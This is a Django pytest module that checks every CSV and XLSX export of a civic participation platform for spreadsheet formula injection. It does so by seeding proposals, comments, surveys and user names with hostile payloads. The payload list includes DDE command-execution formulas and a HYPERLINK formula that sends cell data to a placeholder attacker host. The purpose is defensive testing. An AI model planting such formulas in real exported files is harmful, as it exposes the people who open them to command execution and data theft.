"""CSV injection: every CSV or XLSX file the platform hands out goes through one writer.

The attack of the review: a participant titles a proposal ``=HYPERLINK(…)`` or comments
``=cmd|' /C calc'!A0``; an admin exports and opens the file in a spreadsheet, which runs it.
The test finds every export of the project (every URL named like one, and every place in
the code that writes CSV or XLSX), fills every field it can with such texts, downloads each
file and fails if any cell could still start a formula.
"""

import ast
import csv
import io
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

import civitas
from civitas.core.spreadsheets import csv_text, is_formula, neutralise

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://evil.test/?"&A2,"Détails")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
]
# A name an URL gets when it hands out a file a spreadsheet may open.
EXPORT_NAME = re.compile(r"export|download|my_data|csv|xlsx|spreadsheet")
NOT_AN_EXPORT = re.compile(r"import")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def runs_as_formula(cell: str) -> bool:
    """Written here again, independently of the writer, from what spreadsheets do."""
    if cell[:1] in ("\t", "\r"):
        return True
    stripped = cell.lstrip()
    return stripped[:1] in ("=", "+", "-", "@") and not _NUMBER.fullmatch(stripped)


def test_the_writer_neutralises_formulas_and_keeps_numbers():
    for payload in PAYLOADS:
        assert runs_as_formula(payload) and is_formula(payload)
        assert neutralise(payload) == "'" + payload and not runs_as_formula(neutralise(payload))
    for harmless in ("-12.5", "+33", "2026-12-06", "Une idée", "", "1e5", "a=b"):
        assert neutralise(harmless) == harmless
    assert neutralise(-3) == -3 and neutralise(None) == ""
    text = csv_text(["title"], [{"title": PAYLOADS[1]}])
    assert list(csv.reader(io.StringIO(text))) == [["title"], ["'" + PAYLOADS[1]]]


# --- discovery -----------------------------------------------------------------------------


def _url_names(resolver=None, namespace=""):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            inner = namespace + (f"{pattern.namespace}:" if pattern.namespace else "")
            yield from _url_names(pattern, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield namespace + pattern.name


WRITERS = {("csv", "writer"), ("csv", "DictWriter")}
SPREADSHEET_LIBRARIES = {"xlsxwriter", "openpyxl", "xlwt", "pyexcel", "tablib", "pandas"}


def _bypasses(path: Path) -> list[str]:
    """Where a module writes CSV or a workbook without the shared writer."""
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            if (node.value.id, node.attr) in WRITERS:
                found.append(f"{path}:{node.lineno} csv.{node.attr}")
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [
                f"{path}:{node.lineno} from csv import {a.name}" for a in node.names if a.name != "reader"
            ]
        if isinstance(node, ast.Import | ast.ImportFrom):
            modules = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
            found += [
                f"{path}:{node.lineno} {module}"
                for module in modules
                if module.split(".")[0] in SPREADSHEET_LIBRARIES
            ]
    return found


def test_no_code_writes_csv_or_xlsx_without_the_shared_writer():
    root = Path(civitas.__file__).parent
    shared = root / "core" / "spreadsheets.py"
    sources = [
        path
        for path in root.rglob("*.py")
        if path != shared and "tests" not in path.parts and "migrations" not in path.parts
    ]
    # Training data written once by a developer's script is not handed out by the platform.
    sources = [path for path in sources if path.parts[-3:-1] != ("spam", "data")]
    assert [bypass for path in sources for bypass in _bypasses(path)] == []


# --- every export, fetched -----------------------------------------------------------------


def _cells_of_csv(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _cells_of_xlsx(data: bytes) -> list[str]:
    namespace = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(io.BytesIO(data)) as workbook:
        names = workbook.namelist()
        shared = []
        if "xl/sharedStrings.xml" in names:
            root = ElementTree.fromstring(workbook.read("xl/sharedStrings.xml"))  # noqa: S314 - our own file
            shared = ["".join(t.text or "" for t in si.iter(f"{{{namespace['m']}}}t")) for si in root]
        cells = []
        for name in names:
            if not name.startswith("xl/worksheets/"):
                continue
            sheet = ElementTree.fromstring(workbook.read(name))  # noqa: S314 - our own file
            assert sheet.find(".//m:f", namespace) is None, "a formula was written"
            for cell in sheet.iterfind(".//m:c", namespace):
                if cell.get("t") == "s":
                    cells.append(shared[int(cell.find("m:v", namespace).text)])
                elif cell.get("t") == "inlineStr":
                    cells.append("".join(t.text or "" for t in cell.iter(f"{{{namespace['m']}}}t")))
        return cells


def _cells_of_zip(data: bytes) -> list[str]:
    cells = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                cells += _cells_of_csv(archive.read(name))
            elif name.endswith(".xlsx"):
                cells += _cells_of_xlsx(archive.read(name))
    return cells


def _body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def hostile(org_a, admin_a):
    """Every text a participant or an admin types, set to a formula, in every exported place."""
    from civitas.comments.services import do_add_comment
    from civitas.components.proposals import services as proposals
    from civitas.components.surveys import services as surveys
    from civitas.components.surveys.models import Survey
    from civitas.components.surveys.tests.conftest import add_question, make_survey_component
    from civitas.components.surveys.tests.helpers import post_data
    from civitas.opendata import export
    from civitas.testing.factories import UserFactory
    from civitas.testing.participation import published_component, published_space

    author = UserFactory(organization=org_a, name=PAYLOADS[0], about=PAYLOADS[1])
    space = published_space(org_a, admin_a, PAYLOADS[2])
    ideas = published_component(space, admin_a, "proposals", PAYLOADS[3], creation_enabled=True)
    proposals_made = []
    for payload in PAYLOADS:
        draft = proposals.do_create_draft(
            user=author, component=ideas, title=payload, body=f"<p>{payload}</p>", address=payload
        )
        proposals.do_publish(proposal=draft, user=author)
        do_add_comment(user=author, resource=draft, body=payload)
        proposals_made.append(draft)

    component = make_survey_component(org_a, admin_a, title=PAYLOADS[4])
    survey = Survey.objects.get(component=component)
    choice = add_question(survey, "single", PAYLOADS[0], options=PAYLOADS[:4], other=PAYLOADS[5])
    texts = [add_question(survey, "long_text", payload, max_length=500) for payload in PAYLOADS]
    for index, payload in enumerate(PAYLOADS):
        data = {question.key: payload for question in texts}
        data[choice.key] = choice.options.order_by("position")[index % 5].key
        data[f"{choice.key}_other"] = payload
        surveys.do_answer(survey=survey, user=UserFactory(organization=org_a), data=post_data(data))
    surveys.do_close(survey=survey, user=admin_a)  # answers are exported once the survey is closed

    export.rebuild(org_a)
    return {"author": author, "ideas": ideas, "survey": component}


def _fetchers(hostile, admin_client, author_client):
    ideas, survey = hostile["ideas"], hostile["survey"]
    proposals = f"/admin/spaces/{ideas.space_id}/components/{ideas.pk}/proposals/"
    surveys = f"/admin/spaces/{survey.space_id}/components/{survey.pk}/surveys/"

    def people_export():
        from civitas.testing.factories import UserFactory

        # The participants list exports names: one of them a formula.
        UserFactory(organization=ideas.space.organization, name=PAYLOADS[1], nickname="tableur")
        return [_cells_of_csv(_body(admin_client.post("/admin/people/export/")))]

    return {
        "proposals_admin:export": lambda: [_cells_of_csv(_body(admin_client.get(f"{proposals}export/")))],
        "proposals_admin:export_comments": lambda: [
            _cells_of_csv(_body(admin_client.get(f"{proposals}export/comments/")))
        ],
        "surveys_admin:export": lambda: [
            _cells_of_csv(_body(admin_client.get(f"{surveys}export/"))),
            _cells_of_xlsx(_body(admin_client.get(f"{surveys}export/?format=xlsx"))),
        ],
        "opendata:download": lambda: [
            _cells_of_zip(_body(Client(HTTP_HOST="commune-a.test").get("/open-data/download/")))
        ],
        "people_admin:export": people_export,
        "accounts:my_data": lambda: [_cells_of_zip(_body(author_client.post("/accounts/settings/my-data/")))],
    }


def test_every_export_neutralises_formulas(hostile, admin_a, org_a):
    admin_client, author_client = Client(HTTP_HOST=org_a.host), Client(HTTP_HOST=org_a.host)
    admin_client.force_login(admin_a)
    author_client.force_login(hostile["author"])
    fetchers = _fetchers(hostile, admin_client, author_client)

    exports = {name for name in _url_names() if EXPORT_NAME.search(name) and not NOT_AN_EXPORT.search(name)}
    assert exports == set(fetchers), "an export is missing from this test: add how to fetch it"

    for name, fetch in fetchers.items():
        for cells in fetch():
            # The hostile texts did reach the file (the test cannot pass on an empty export)…
            assert any("cmd|' /C calc'" in cell for cell in cells), f"{name}: no payload exported"
            # …but none of them as a formula.
            assert [cell for cell in cells if runs_as_formula(cell)] == [], name
